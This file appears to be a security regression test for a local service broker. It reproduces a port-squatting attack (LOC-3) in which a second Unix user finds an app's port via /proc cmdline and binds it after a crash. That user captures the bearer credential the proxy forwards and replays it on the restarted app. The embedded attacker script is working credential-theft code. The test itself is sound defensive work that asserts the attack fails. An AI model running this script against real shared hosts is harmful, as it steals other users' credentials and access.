/**
 * LOC-3, as the attacker (a penetration test of issue 11 found it open; it was fixed by checking
 * who answers every upstream connection): the app behind `broker run --app-auth` on `{app_port}`, restarted by its job
 * script after a crash. bt-mallory, a second real Unix user, reads the app port in the wrapper's
 * command line (world-readable /proc/PID/cmdline) and keeps trying to bind it. The moment the app
 * dies she holds 127.0.0.1:{app_port}. The front's UpstreamGuard re-checks the listener only after
 * an upstream connection *fails* (ECONNREFUSED); a connection to her listener does not fail, so
 * the owner's next request — with the per-run app credential the front adds — goes to her. She
 * lets go, the job script restarts the app, and she walks into it with the stolen credential,
 * without any broker key: the gate is bypassed for good (for `--app-auth jupyter` that is a
 * Jupyter server: code execution as the victim).
 *
 * The test states what LOC-3 promises; it failed while the attack worked.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import { request as httpsRequest } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localhostLookup } from '../../src/client/broker-client.js';
import { BIN, Daemon } from '../helpers/daemon.js';
import {
  announceSkip,
  killAs,
  lineFrom,
  spawnNodeAs,
  unixUser,
  type UnixUser,
} from '../helpers/users.js';
import { until } from '../helpers/wait.js';

const skip = announceSkip('attack: app port re-bind after an app restart (LOC-3)');

/** The victim's app: checks the app credential broker run gives it; /crash is its bug. */
const APP = `import { createServer } from 'node:http';
const want = 'Bearer ' + process.env.BROKER_APP_TOKEN;
createServer((req, res) => {
  if (req.headers.authorization !== want) { res.writeHead(401); return res.end('no credential\\n'); }
  if (req.url === '/crash') return res.end('crashing\\n', () => process.exit(3));
  res.end('private notebook of ' + req.headers['x-forwarded-user'] + '\\n');
}).listen(Number(process.argv[2]), '127.0.0.1');
`;

/**
 * mallory: find the port in the wrapper's command line, bind it the moment it is free, answer
 * the first request like the app and keep its headers, let go, wait for the real app to be back
 * and use the credential on it directly.
 */
const MALLORY = `import { readdirSync, readFileSync } from 'node:fs';
import net from 'node:net';
import http from 'node:http';
const out = (o) => console.log(JSON.stringify(o));
let port = 0;
while (!port) {
  for (const p of readdirSync('/proc').filter((x) => /^\\d+$/.test(x))) {
    let argv = [];
    try { argv = readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\\0'); } catch {}
    const i = argv.indexOf('restart-loop');
    if (i !== -1 && /^\\d+$/.test(argv[i + 1] ?? '')) port = Number(argv[i + 1]);
  }
  if (!port) await new Promise((r) => setTimeout(r, 50));
}
out({ port });
let captured = null;
const gotRequest = new Promise((resolve) => {
  const srv = http.createServer((req, res) => {
    captured = { authorization: req.headers.authorization ?? null, user: req.headers['x-forwarded-user'] ?? null, url: req.url };
    res.end('fake page\\n');
    srv.close();
    srv.closeAllConnections?.();
    resolve();
  });
  srv.once('listening', () => out({ squatting: port }));
  const tryBind = () => {
    srv.once('error', () => setTimeout(tryBind, 5));
    srv.listen(port, '127.0.0.1');
  };
  tryBind();
});
await Promise.race([gotRequest, new Promise((r) => setTimeout(r, 15000))]);
out({ captured });
if (!captured?.authorization) process.exit(0);
// The job script brings the real app back on the same port; use what the front gave away.
const get = () => new Promise((resolve) => {
  const req = http.request({ host: '127.0.0.1', port, path: '/', headers: { authorization: captured.authorization } }, (res) => {
    let body = ''; res.on('data', (c) => (body += c)); res.on('end', () => resolve({ status: res.statusCode, body }));
  });
  req.on('error', () => resolve(null));
  req.end();
});
let direct = null;
for (let i = 0; i < 100 && !(direct && direct.body !== 'fake page\\n'); i++) {
  direct = await get();
  if (!direct || direct.body === 'fake page\\n') await new Promise((r) => setTimeout(r, 100));
}
out({ direct });
`;

describe.skipIf(skip)(
  'attack: the app port is taken between a crash and its restart (LOC-3)',
  () => {
    let d: Daemon;
    let owner: string;
    let mallory: UnixUser;
    let dir: string;
    const procs: ChildProcess[] = [];

    beforeAll(async () => {
      d = await Daemon.start();
      owner = (await d.api('GET', '/v1/whoami')).body.principal.name;
      mallory = unixUser('bt-mallory');
      dir = mkdtempSync(join(tmpdir(), 'attack-rebind-'));
      chmodSync(dir, 0o700);
      writeFileSync(join(dir, 'app.mjs'), APP, { mode: 0o600 });
    });
    afterAll(async () => {
      for (const p of procs) {
        if (p.exitCode !== null || p.signalCode !== null) continue;
        if (p.spawnargs[0] === 'runuser') killAs(p);
        else p.kill('SIGTERM');
      }
      await new Promise((r) => setTimeout(r, 1000));
      await d.stop();
      rmSync(dir, { recursive: true, force: true });
    });

    const get = (
      svc: { port: number; hostname: string },
      path: string,
      key: string,
    ): Promise<{ status: number; body: string } | { error: string }> =>
      new Promise((resolve) => {
        const req = httpsRequest(
          `https://${svc.hostname}:${svc.port}${path}`,
          {
            ca: d.ca,
            agent: false,
            headers: { Authorization: `Bearer ${key}` },
            lookup: localhostLookup,
          },
          (res) => {
            let body = '';
            res.on('data', (c) => (body += c));
            res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
          },
        );
        req.on('error', (e) => resolve({ error: e.message }));
        req.setTimeout(5000, () => req.destroy(new Error('timeout')));
        req.end();
      });

    it('fail/LOC-3 mallory never receives a request or the app credential, and cannot reach the app without a key', async () => {
      // The victim: a job script that restarts its server when it crashes (a common pattern).
      const p = spawn(
        process.execPath,
        [BIN, 'run', 'nb', '--mode', 'https', '--app-auth', 'bearer', '--', 'sh', '-c']
          .concat([`while :; do ${process.execPath} ${join(dir, 'app.mjs')} "$1"; sleep 1; done`])
          .concat(['restart-loop', '{app_port}']),
        { env: d.env(), stdio: ['ignore', 'ignore', 'pipe'] },
      );
      procs.push(p);
      let err = '';
      p.stderr!.on('data', (c: Buffer) => (err += c.toString()));
      await until(
        async () =>
          (await d.api('GET', `/v1/services/${owner}/nb`)).body.service?.status === 'ready',
        20_000,
        `nb ready: ${err}`,
      );
      const k = (await d.api('POST', `/v1/services/${owner}/nb/keys`, { body: {} })).body as {
        key: string;
        service: { port: number; hostname: string };
      };
      expect(await get(k.service, '/', k.key)).toEqual({
        status: 200,
        body: `private notebook of ${owner}\n`,
      });

      const m = spawnNodeAs(mallory, MALLORY);
      procs.push(m);
      const lines: Record<string, unknown>[] = [];
      m.stdout!.on('data', (c: Buffer) => {
        for (const l of c.toString().split('\n'))
          if (l.startsWith('{')) lines.push(JSON.parse(l) as Record<string, unknown>);
      });
      await lineFrom(m, (l) => l.startsWith('{"port"'), 10_000);

      // The app crashes (its bug); its job script restarts it a second later.
      expect(await get(k.service, '/crash', k.key)).toEqual({ status: 200, body: 'crashing\n' });
      await lineFrom(m, (l) => l.startsWith('{"squatting"'), 5000).catch(() => undefined);

      // The owner's next request, with a valid key, through the gate.
      const next = await get(k.service, '/', k.key);
      await until(
        () => lines.some((l) => 'direct' in l || ('captured' in l && l.captured === null)),
        20_000,
        'mallory to finish',
      );
      const captured = lines.find((l) => 'captured' in l)?.captured as {
        authorization: string | null;
        user: string | null;
      } | null;
      const direct = lines.find((l) => 'direct' in l)?.direct as {
        status: number;
        body: string;
      } | null;
      console.log(
        `[attack] owner's request answered: ${JSON.stringify(next)}; mallory captured: ${JSON.stringify(captured)}; mallory straight at the app with it: ${JSON.stringify(direct)}; broker run: ${JSON.stringify(err.trim().split('\n').slice(-2))}`,
      );
      expect({
        ownerServedByMallory: 'body' in next && next.body === 'fake page\n',
        malloryGotTheAppCredential: typeof captured?.authorization === 'string',
        malloryGotTheOwnersName: captured?.user ?? null,
        malloryInTheAppWithoutAKey: direct?.status === 200,
      }).toEqual({
        ownerServedByMallory: false,
        malloryGotTheAppCredential: false,
        malloryGotTheOwnersName: null,
        malloryInTheAppWithoutAKey: false,
      });
    }, 60_000);
  },
);
